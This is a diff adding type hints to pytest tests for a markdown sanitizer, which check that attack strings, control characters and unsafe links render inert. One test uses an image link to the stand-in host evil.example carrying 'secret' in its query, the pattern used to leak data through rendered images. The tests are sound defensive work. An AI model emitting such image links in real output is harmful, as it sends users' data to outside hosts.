@@ -61,23 +61,23 @@ def assert_inert(html: str) -> None:
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
-def test_an_attack_is_text(attack):
+def test_an_attack_is_text(attack: str) -> None:
     assert_inert(render(attack))
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
-def test_an_attack_is_text_at_every_point_of_its_arrival(attack):
+def test_an_attack_is_text_at_every_point_of_its_arrival(attack: str) -> None:
     for end in range(len(attack)):
         assert_inert(render(attack[:end]))
         assert_inert(render(f"| a |\n|-|\n| {attack[:end]}"))
 
 
 @given(st.text(alphabet=st.sampled_from("<>\"'()[]!`|-:/\n &#;=ajvscript\x00\u202e"), max_size=60))
-def test_no_text_makes_anything_else_than_the_allowed_tags(text):
+def test_no_text_makes_anything_else_than_the_allowed_tags(text: str) -> None:
     assert_inert(render(text))
 
 
-def test_an_image_is_a_link_and_loads_nothing():
+def test_an_image_is_a_link_and_loads_nothing() -> None:
     html = render("![secret](https://evil.example/?q=secret)")
     assert "<img" not in html
     assert 'href="https://evil.example/?q=secret"' in html
@@ -85,11 +85,11 @@ def test_an_image_is_a_link_and_loads_nothing():
 
 
 @pytest.mark.parametrize("url", ["/admin/", "//e.example/x", "ftp://e.example", "#dock", "x"])
-def test_a_link_to_anything_but_the_web_or_mail_is_no_link(url):
+def test_a_link_to_anything_but_the_web_or_mail_is_no_link(url: str) -> None:
     assert "<a" not in render(f"[x]({url})")
 
 
-def test_what_markdown_is_for_works():
+def test_what_markdown_is_for_works() -> None:
     html = render(
         "# One\n\n**b** ~~s~~ `c`\n\n|a|b|\n|:-|-:|\n|1|2|\n\n```py\nx < 1\n```\n3. three"
     )
@@ -104,7 +104,7 @@ def test_what_markdown_is_for_works():
         assert part in html
 
 
-def test_headings_stay_below_those_of_the_page():
+def test_headings_stay_below_those_of_the_page() -> None:
     assert "<h1" not in render("# a\n\nb\n=\n")
 
 
@@ -118,15 +118,15 @@ def test_headings_stay_below_those_of_the_page():
         ("\x1b", "001B"),
     ],
 )
-def test_what_hides_or_reorders_text_is_shown_by_its_code(character, code):
+def test_what_hides_or_reorders_text_is_shown_by_its_code(character: str, code: str) -> None:
     html = visible(f"pay 100{character}001")
     assert character not in html
     assert f"U+{code}" in html
 
 
-def test_visible_text_is_escaped_and_keeps_its_lines():
+def test_visible_text_is_escaped_and_keeps_its_lines() -> None:
     assert visible("<b>\n'\"&") == "&lt;b&gt;\n&#x27;&quot;&amp;"
 
 
-def test_a_joined_emoji_is_no_trick():
+def test_a_joined_emoji_is_no_trick() -> None:
     assert visible("👩\u200d💻") == "👩\u200d💻"
